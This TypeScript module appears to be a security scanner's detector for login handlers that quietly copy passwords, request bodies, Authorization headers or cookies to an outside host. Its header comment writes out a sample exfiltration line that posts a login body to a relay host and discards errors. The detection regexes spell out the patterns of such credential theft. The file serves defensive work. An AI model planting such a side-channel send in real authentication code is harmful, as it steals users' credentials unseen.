/**
 * What users sign in with copied to an outside host on the side (R22: an express `/login` handler
 * that first does `fetch('https://hooks.zapier-relay.net/…', { body: JSON.stringify(req.body) })
 * .catch(() => {})` and then calls `next()`): a send whose answer the code never reads (a bare
 * statement, `void`, `.catch(() => {})`, `waitUntil`, a thread) or that goes to a request-capture
 * host, carrying a password, the sign-in's body or form, the Authorization header or the cookies,
 * to a literal host that is no local or internal one. The real sign-in goes on, so nothing looks
 * wrong. A proxy or an OAuth token exchange reads the answer, a notification carries no password,
 * and a forward to an internal service stays home: all stay allowed.
 */
import { classifyHost } from '../../net/address.js';
import { captureHost } from '../../knowledge/file-drop-hosts.js';
import type { Planted } from './auth-backdoor.js';

/** The head of an outbound send in node or python (a client's `c.post('https://…')`, `require('axios').post(` inline, R24), or a channel opened to a host (a socket, a raw request). */
const SEND =
  /(?:(?<![\w$.])require\(\s*["'](?:axios|got|node-fetch|needle|superagent|undici)["']\s*\)(?:\.(?:post|put|patch|get|request|send))?|(?<![\w$.])(?:fetch|\$fetch|ofetch|axios|got|needle|ky|superagent|request|requests|httpx|urlopen)(?:\.(?:post|put|patch|get|request|send))?|(?<![\w$.])https?\.(?:request|get)|new\s+WebSocket|(?<![\w$])Thread|(?<![\w$.])\w+\.(?:post|put|patch|request|send)(?=\(\s*["'`](?:https?|wss?):\/\/))\s*\(/g;
/** A literal URL or host the send goes to. */
const TARGET =
  /^[^]{0,200}?(?:["'`](?:https?|wss?):\/\/([^/"'`\s?#:]+)|\bhost(?:name)?\s*:\s*["'`]([^"'`\s/:]+))/;
/** The request's whole body or form: what the user signs in with where the text signs users in. */
const BODY =
  /\b(?:req|request|ctx\.request|c\.req|event)\.(?:body|form|POST|values|payload|json\(\)|get_json\(\))(?:\.(?:to_dict|dict|copy)\(\))?(?![\w.[])/;
/** What signs in wherever it goes: the request's Authorization header, cookies, headers, or its body's password. */
const CREDENTIAL =
  /\b(?:req|request|ctx)\.(?:headers|cookies|COOKIES)(?:\.(?:authorization|cookie)\b|\[\s*["'](?:authorization|cookie)["']\s*\]|(?![\w.[]))|\bheaders\.get\(\s*["'](?:authorization|cookie)["']|\b(?:req|request|ctx|c\.req|event)\.(?:body|form|payload|POST|json)(?:\.|\[\s*["'])(?:password|passwd|pwd|pass)\b/i;
/**
 * A password the user typed, where the text signs users in: a form's or credentials' field, the
 * credentials object, or a `password` bound from the request's body or a strategy's arguments (a
 * script's own `auth: { password: process.env.X }` is none).
 */
const USER_PASSWORD =
  /\b(?:body|form|data|credentials|creds|payload|input|values)(?:\.|\[\s*["'])(?:password|passwd|pwd)\b|\bJSON\.stringify\(\s*(?:credentials|creds)\s*\)/i;
const BOUND_PASSWORD =
  /\{[^}]{0,80}\bpassword\b[^}]{0,80}\}\s*=\s*(?:await\s+)?(?:\w+\.)?(?:req|request|ctx\.request|c\.req)\.(?:body|json|payload)|\(\s*\w+\s*,\s*password\s*,\s*(?:done|cb|callback|next)\b/;
/** Text about signing in: where a request's whole body is its credentials. */
const SIGN_IN =
  /\b(?:log_?in|sign_?in|signin|logon|auth\w*|session|password|credentials?|reset|otp|mfa|token)\b|\/(?:login|signin|auth)\b/i;
/** A body or form the handler read whole into a name (`const creds = await c.req.json()`, `body = request.get_json()`, h3's `readBody(event)`). */
const READ_BODY =
  /(?:\b(?:const|let|var)\s+|^[ \t]*)(\w+)\s*=\s*(?:await\s+)?(?:(?:\w+\.)?(?:req|request|c\.req|ctx\.request)(?:\.clone\(\))?\.(?:json|formData|body|form|get_json)\b|(?:readBody|readFormData|readValidatedBody|readMultipartFormData)\(\s*event\b)/gm;
/** The Authorization header or cookies read into a name (`const auth = req.headers.authorization`). */
const READ_CREDENTIAL =
  /\b(?:const|let|var)\s+(\w+)\s*=\s*(?:req|request|ctx)\.(?:headers\.(?:authorization|cookie)|headers\[\s*["'](?:authorization|cookie)["']\s*\]|get\(\s*["'](?:authorization|cookie)["']\s*\)|cookies\b)/g;
/** A send whose answer is dropped: it opens a statement, is `void`ed or handed to `waitUntil`, a thread's target. */
const DROPPED_BEFORE =
  /(?:^|[;{}])\s*(?:(?:if\s*\([^\n]*\)|else|try\s*\{|\}\s*)\s*)*(?:void\s+|await\s+)?$|(?:waitUntil|setImmediate|queueMicrotask)\(\s*(?:\(\)\s*=>\s*)?$/;
const DROPPED_AFTER = /\.catch\(\s*(?:\(\s*\w*\s*\)|\w+)\s*=>\s*(?:\{\s*\}|null|undefined|void 0)\s*\)/;
/** Hosts only the app reaches: loopback, private, `.internal`, `.local`, a cluster service. */
const INTERNAL = /(?:^|\.)(?:internal|local|localhost|lan|svc|cluster\.local|corp|intranet|home\.arpa)$/i;
/** Message hooks that post into someone's chat: whoever holds them reads the text. */
const CHAT_HOOK = /^(?:discord(?:app)?\.com|api\.telegram\.org|hooks\.slack\.com)$/i;

/** Whether a host lies outside the app: a public name with a dot, no private address. */
function outside(host: string): boolean {
  const c = classifyHost(host).class;
  return (c === 'public' || c === 'name') && host.includes('.') && !INTERNAL.test(host);
}

/** The call's text from its head to its closing parenthesis (and the chained calls on it), at most 600 characters. */
export function callText(text: string, start: number): string {
  let depth = 0;
  let end = start;
  const stop = Math.min(text.length, start + 600);
  for (let i = start; i < stop; i++) {
    const ch = text[i];
    if (ch === '(' || ch === '{' || ch === '[') depth++;
    else if (ch === ')' || ch === '}' || ch === ']') {
      depth--;
      if (depth === 0) {
        end = i + 1;
        // `superagent.post(url).send({...})`: the data rides on a chained call.
        if (!/^\s*\.\s*(?:send|query|set|field|json|write|end)\(/.test(text.slice(i + 1, i + 40))) break;
      }
    }
    end = i + 1;
  }
  return text.slice(start, end);
}

/** The first 16 distinct names `read` binds in the text (longer than one letter). */
function namesOf(src: string, read: RegExp): string[] {
  const out = new Set<string>();
  for (const m of src.matchAll(read)) {
    if (m[1]!.length > 1) out.add(m[1]!);
    if (out.size >= 16) break;
  }
  return [...out];
}

/** Where and why the text copies what users sign in with to an outside host, or undefined. */
export function credentialCopyAt(text: string): Planted | undefined {
  const src = text.slice(0, 65536);
  const signIn = SIGN_IN.test(src);
  const names = signIn ? namesOf(src, READ_BODY) : [];
  if (signIn && BOUND_PASSWORD.test(src)) names.push('password');
  const held = namesOf(src, READ_CREDENTIAL);
  const heldCredential =
    held.length === 0 ? undefined : new RegExp(String.raw`\b(?:${held.join('|')})\b(?![\w[(]|\s*:)`);
  const named =
    names.length === 0 ? undefined : new RegExp(String.raw`\b(?:${names.join('|')})\b(?![\w.[(]|\s*:)`);
  let seen = 0;
  for (const m of src.matchAll(SEND)) {
    // The first 64 sends: a bounded amount of work whatever the text.
    if (++seen > 64) break;
    const open = m.index + m[0].length - 1;
    const call = callText(src, open);
    const target = TARGET.exec(call);
    const host = (target?.[1] ?? target?.[2])?.toLowerCase();
    if (host === undefined || !outside(host)) continue;
    const head = src.slice(Math.max(0, m.index - 160), m.index);
    const before = head.slice(head.lastIndexOf('\n') + 1);
    // A socket or raw request held in a name: what is written to it later.
    const channel = /^(?:new\s+WebSocket|https?\.)/.test(m[0])
      ? /(\w+)\s*=\s*$/.exec(before)?.[1]
      : undefined;
    if (m[0].startsWith('new') && channel === undefined) continue;
    let carried = call;
    if (channel !== undefined) {
      const writes = new RegExp(String.raw`\b${channel}\.(?:send|write|end|emit)\(`, 'g');
      // Within the next 4,000 characters: the work stays linear in the text.
      const near = src.slice(m.index, m.index + 4000);
      writes.lastIndex = m[0].length;
      carried = '';
      for (let w = writes.exec(near); w !== null && carried.length < 2000; w = writes.exec(near))
        carried += callText(near, w.index + w[0].length - 1);
    }
    // A quoted URL or path is no data (`/reset-password`); a `"password"` key is.
    const bare = carried.replace(/"[^"\n]*\/[^"\n]*"|'[^'\n]*\/[^'\n]*'/g, '""');
    const data =
      CREDENTIAL.exec(bare) ??
      heldCredential?.exec(bare) ??
      (signIn ? (BODY.exec(bare) ?? USER_PASSWORD.exec(bare) ?? named?.exec(bare)) : null) ??
      null;
    if (data === null) continue;
    // A thread's target, a socket or a raw request: no answer is read back.
    const dropped =
      channel !== undefined ||
      m[0].startsWith('Thread') ||
      DROPPED_BEFORE.test(before) ||
      DROPPED_AFTER.test(src.slice(open + call.length, open + call.length + 60)) ||
      DROPPED_AFTER.test(call);
    if (!dropped && !captureHost(host) && !CHAT_HOOK.test(host)) continue;
    return { why: `copies ${data[0].slice(0, 40)} to ${host} on the side`, at: m.index };
  }
  return undefined;
}
